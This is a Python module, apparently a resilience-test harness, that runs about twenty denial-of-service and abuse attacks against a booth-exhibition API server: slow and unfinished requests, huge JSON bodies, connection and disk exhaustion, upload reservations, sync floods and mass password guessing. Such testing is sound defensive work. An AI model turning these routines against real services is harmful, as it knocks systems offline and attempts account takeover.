# SPDX-License-Identifier: MIT
"""What one hostile laptop or one greedy account sends. Each attack is a coroutine that goes on until it is cancelled.

    with Attack("trickled-sign-ins", Target(port)) as attack:
        ...
    attack.seen      # how many answers of which status, connections made and lost

By hand, until its standard input ends: sleep 10 | attacks.py trickled-sign-ins '{"port": 8000}'

An attack runs in a process of its own at low priority: the attacker's processor is not the server's. Its connections come
from Target.addresses, in turn. Everything is bounded in count; a connection that the server closes is made again.
"""
import asyncio
import base64
import collections
import contextlib
import itertools
import json
import os
import random
import resource
import secrets
import ssl
import sys
import time
import uuid

from hostile_client import API, SMALL_WINDOW, Connection, Target, head, post, read_slowly, swarm, trickle


# Row 1: anonymous bodies of very many JSON nodes.
async def json_nodes(target):
    body = b'{"refresh":[' + b",".join([b"{}"] * 666_000) + b"]}"

    async def one(number):
        async with Connection(target, number) as connection:
            while True:
                await connection.send_and_answer(post(API + "/token/refresh/", body))

    await swarm(target, 24, one)


# Row 2: many ask for a large constant answer, and read nothing of it.
async def unread_schema(target):
    async def one(number):
        async with Connection(target, number, SMALL_WINDOW) as connection:
            await connection.send(head("GET", API + "/schema/"))
            await asyncio.sleep(3600)

    await swarm(target, 1700, one)


async def fill_booth(target, sizes=(1_990_000, 250_000, 60_000, 15_000), most=84_000_000):
    """Items with descriptions as large as the server takes, in the attacker's booth; gives the bytes that it took."""
    path, held, end = API + "/booths/%d/items/" % target.booth, 0, time.monotonic() + 120
    async with contextlib.AsyncExitStack() as stack:
        connection = await stack.enter_async_context(Connection(target, 0))
        for size in sizes:
            count = 0
            while held < most and count < 400 and time.monotonic() < end:
                item = {"name": "x", "description": secrets.token_hex(size // 2)}
                try:
                    status, _ = await connection.send_and_answer(post(path, item, "application/json", target.token))
                except OSError:
                    status = 0
                if status != 201:
                    connection = await stack.enter_async_context(Connection(target, 0))
                    break
                held, count = held + size, count + 1
    target.seen["bytes held"] += held
    return held


# Row 3: behind fill_booth(), slow readers of lists, feed and push answers.
async def large_texts(target):
    lists = [head("GET", API + path, token=target.token) for path in (
        "/booths/%d/items/list/" % target.booth, "/sync/changes/?limit=500", "/booths/list/")]
    lists.append(post(API + "/sync/push/", {"device_id": "x", "ops": []}, "application/json", target.token))

    async def one(number):
        async with Connection(target, number, SMALL_WINDOW) as connection:
            await connection.send(lists[number % len(lists)])
            await asyncio.wait_for(read_slowly(connection), 60)

    await swarm(target, 32, one)


def chunked(path, kind="application/json", token=""):
    return head("POST", path, "Content-Type: " + kind, "Transfer-Encoding: chunked", token=token)


CHUNK = b"78\r\n" + b" " * 120 + b"\r\n"


# Row 4: two sign-ins whose bodies trickle, just faster than what is given up as too slow.
async def trickled_sign_ins(target):
    async def one(number):
        async with Connection(target, number) as connection:
            await connection.send(chunked(API + "/token/"))
            await trickle(connection, CHUNK, 1250)

    await swarm(target, 2, one)


ANONYMOUS = ("/token/", "/token/refresh/", "/token/code/", "/admin/session/", "/admin/first-run/")


# Row 5: more trickling bodies than may be under way at once, on every route that needs no account.
async def trickled_bodies(target):
    async def one(number):
        async with Connection(target, number) as connection:
            await connection.send(chunked(API + ANONYMOUS[number % len(ANONYMOUS)]))
            await trickle(connection, CHUNK, 1250)

    await swarm(target, 100, one)


# Row 5: the same with an account, as uploads of images.
async def slow_uploads(target):
    begin = head("POST", API + "/booths/%d/images/" % target.booth, "Content-Type: multipart/form-data; boundary=b",
                 "Content-Length: 15000000", token=target.token)
    part = b'--b\r\nContent-Disposition: form-data; name="image"; filename="a.png"\r\n\r\n\x89PNG\r\n\x1a\n'

    async def one(number):
        async with Connection(target, number) as connection:
            await connection.send(begin + part)
            await trickle(connection, b"\0" * 120, 1250)

    await swarm(target, 48, one)


# Row 6: connections that say nothing, more than the server has room for.
async def idle_connections(target):
    async def one(number):
        async with Connection(target, number) as connection:
            await connection.read(1)

    await swarm(target, 4200, one)


# Row 7: guesses at passwords, all at once.
async def wrong_passwords(target):
    async def one(number):
        async with Connection(target, number) as connection:
            while True:
                email = random.choice(target.emails) if number % 2 else "guessed-%s@example.com" % secrets.token_hex(8)
                await connection.send(post(API + "/token/", {"email": email, "password": secrets.token_hex(8)}))
                if (await connection.answer())[0] == 429:
                    await asyncio.sleep(0.5)

    await swarm(target, 350, one)


# Row 8: an exhibitor's texts take whatever room there is.
async def full_drive(target):
    def texts(size):
        return {"name": "x", "description": secrets.token_hex(size // 2)}

    async def one(number):
        path = API + "/booths/%d/items/" % target.booth
        async with Connection(target, number) as connection:
            for size in (1_990_000, 250_000, 30_000, 2_000):
                while True:
                    status, _ = await connection.send_and_answer(post(path, texts(size), "application/json", target.token))
                    if status == 201:
                        target.seen["bytes held"] += size
                    elif size > 2_000:
                        break
                    else:
                        await asyncio.sleep(0.1)

    await swarm(target, 4, one)


def tus_creation(target, size):
    values = {"target": "booth_video", "booth": str(target.booth), "filename": "a.mp4", "client_id": str(uuid.uuid4())}
    metadata = ",".join("%s %s" % (key, base64.b64encode(value.encode()).decode()) for key, value in values.items())
    return head("POST", API + "/uploads/", "Tus-Resumable: 1.0.0", "Upload-Length: %d" % size, "Upload-Metadata: " + metadata,
                "Content-Length: 0", token=target.token)


# Row 9: room is reserved for uploads of which no byte comes; smaller ones where large ones are refused.
async def reservations(target):
    async def one(number):
        async with Connection(target, number) as connection:
            for size in (500_000_000, 50_000_000, 5_000_000, 500_000, 50_000):
                status = 201
                while status == 201 and target.seen[201] < 400:
                    await connection.send(tus_creation(target, size))
                    status, _ = await connection.answer()
                    target.seen["bytes held"] += size if status == 201 else 0
            await asyncio.sleep(1)

    await swarm(target, 2, one)


def operation(kind, client_id, base_version, fields, **more):
    return {"op_id": secrets.token_hex(16), "type": kind, "op": "put", "client_id": client_id, "base_version": base_version,
            "fields": fields, **more}


# Row 10: rows, and results to be remembered, as fast as pushes can make them.
async def push_flood(target):
    async def push(connection, ops):
        body = {"device_id": secrets.token_hex(8), "ops": ops}
        status, answer = await connection.send_and_answer(post(API + "/sync/push/", body, "application/json", target.token))
        if status != 200:
            await asyncio.sleep(0.1)
            return
        for word in ("created", "updated", "quota", "invalid"):
            target.seen[word] += answer.count(b'"status":"%s"' % word.encode())

    async def one(number):
        booth, rows = str(uuid.uuid4()), [str(uuid.uuid4()) for _ in range(200)]
        async with Connection(target, number) as connection:
            await push(connection, [operation("booth", booth, 0, {"name": "x", "country": target.country})])
            await push(connection, [operation("item", row, 0, {"name": "x"}, parent=booth) for row in rows])
            for version in itertools.count(1):
                await push(connection, [operation("item", row, version, {"name": secrets.token_hex(4)}) for row in rows])
                text = secrets.token_hex(2300)
                await push(connection, [operation("item", str(uuid.uuid4()), 0, {"name": "x", "description": text}, parent=booth)
                                        for _ in range(200)])

    await swarm(target, 4, one)


# Heads as large as they may be, never finished.
async def unfinished_heads(target):
    begin = b"GET /api/v1/health/ HTTP/1.1\r\nHost: x\r\n" + b"".join(b"X-%d: %s\r\n" % (n, b"a" * 3900) for n in range(8))

    async def one(number):
        async with Connection(target, number) as connection:
            await connection.send(begin[:31_000])
            await connection.read(1)

    await swarm(target, 3900, one)


# Bodies small enough to be waited for without a worker, never finished.
async def unfinished_bodies(target):
    begin = head("POST", API + "/token/refresh/", "Content-Type: application/json", "Content-Length: 32000") + b" " * 31_000

    async def one(number):
        async with Connection(target, number) as connection:
            await connection.send(begin)
            await connection.read(1)

    await swarm(target, 3900, one)


# Requests one behind the other, whose answers nobody reads.
async def pipelined(target):
    many = head("GET", API + "/schema/") * 400

    async def one(number):
        async with Connection(target, number, SMALL_WINDOW) as connection:
            while True:
                await asyncio.wait_for(connection.send(many), 30)

    await swarm(target, 600, one)


# TLS sessions that ask for a large answer and read nothing of it. The port is that of HTTPS.
async def unread_over_tls(target):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE

    async def one(number):
        async with Connection(target, number, SMALL_WINDOW) as connection:
            came, goes = ssl.MemoryBIO(), ssl.MemoryBIO()
            session = context.wrap_bio(came, goes)
            while True:
                try:
                    session.do_handshake()
                    break
                except ssl.SSLWantReadError:
                    await connection.send(goes.read())
                    came.write(await asyncio.wait_for(connection.read(), 30))
            target.seen["sessions"] += 1
            session.write(head("GET", API + "/schema/"))
            await connection.send(goes.read())
            await asyncio.sleep(3600)

    await swarm(target, 800, one)


# One account asks for large lists as fast as it can read them.
async def greedy_lists(target):
    async def one(number):
        async with Connection(target, number) as connection:
            while True:
                await connection.send(head("GET", API + "/booths/%d/items/list/" % target.booth, token=target.token))
                await connection.answer()

    await swarm(target, 24, one)


# A body in chunks of one byte, as fast as they are taken.
async def tiny_chunks(target):
    async def one(number):
        async with Connection(target, number) as connection:
            await connection.send(chunked(API + "/booths/", "application/json", target.token))
            while True:
                await connection.send(b"1\r\n \r\n" * 10_000)

    await swarm(target, 24, one)


# New connections, one request each, as fast as they are accepted.
async def new_connections(target):
    async def one(number):
        while True:
            async with Connection(target, number) as connection:
                await connection.send(head("GET", "/api/v1/health/", "Connection: close"))
                await connection.read()

    await swarm(target, 200, one)


# Uploads in pieces of a byte, none of which is finished.
async def many_uploads(target):
    async def one(number):
        async with Connection(target, number) as connection:
            while True:
                await connection.send(tus_creation(target, 10))
                status, _ = await connection.answer()
                if status != 201:
                    await asyncio.sleep(0.2)

    await swarm(target, 8, one)


ATTACKS = {call.__name__.replace("_", "-"): call for call in (
    json_nodes, unread_schema, large_texts, trickled_sign_ins, trickled_bodies, slow_uploads, idle_connections,
    wrong_passwords, full_drive, reservations, push_flood, unfinished_heads, unfinished_bodies, pipelined, many_uploads, unread_over_tls,
    greedy_lists, tiny_chunks, new_connections)}


async def until_told(attack, target):
    """Runs the attack until standard input ends; says when the first connection is made, and at the end what was seen."""
    ended = asyncio.Event()
    asyncio.get_running_loop().add_reader(sys.stdin.fileno(), ended.set)
    task, told = asyncio.ensure_future(attack(target)), asyncio.ensure_future(ended.wait())
    while not target.seen and not task.done() and not told.done():
        await asyncio.sleep(0.05)
    print("begun", flush=True)
    await asyncio.wait({task, told}, return_when=asyncio.FIRST_COMPLETED)
    print(json.dumps({"seen": target.seen, "fault": repr(task.exception()) if task.done() else ""}), flush=True)
    os._exit(0)  # thousands of tasks need not be ended one by one


def main():
    name, target = sys.argv[1], Target(**json.loads(sys.argv[2]))
    target.seen = collections.Counter()
    os.nice(5)
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    asyncio.run(until_told(ATTACKS[name], target))


if __name__ == "__main__":
    main()
